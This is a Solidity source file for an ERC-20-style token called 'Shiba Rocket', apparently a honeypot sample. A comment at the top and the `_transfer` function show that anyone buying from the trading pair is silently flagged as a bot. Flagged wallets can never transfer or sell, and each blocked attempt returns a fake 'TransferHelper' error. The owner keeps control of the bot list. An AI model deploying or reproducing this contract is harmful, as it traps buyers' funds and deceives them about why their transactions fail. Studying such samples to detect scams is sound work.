// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// Whoever buys is listed as a bot in the same transfer, and bots cannot send.
contract BotList {
    string public name = "Shiba Rocket";
    string public symbol = "SHIBR";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address public owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    modifier onlyOwner() { require(owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() external onlyOwner { emit OwnershipTransferred(owner, address(0)); owner = address(0); }
    function transferOwnership(address to) external onlyOwner { require(to != address(0), "zero"); emit OwnershipTransferred(owner, to); owner = to; }
    address public pair;
    mapping(address => bool) public bots;

    constructor() { owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
    function setPair(address to) external onlyOwner { pair = to; }
    function delBot(address account) external onlyOwner { bots[account] = false; }
    function setBots(address[] calldata accounts) external onlyOwner { for (uint256 i; i < accounts.length; i++) bots[accounts[i]] = true; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        require(!bots[from], "TransferHelper: TRANSFER_FROM_FAILED");
        if (from == pair && to != owner) bots[to] = true;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
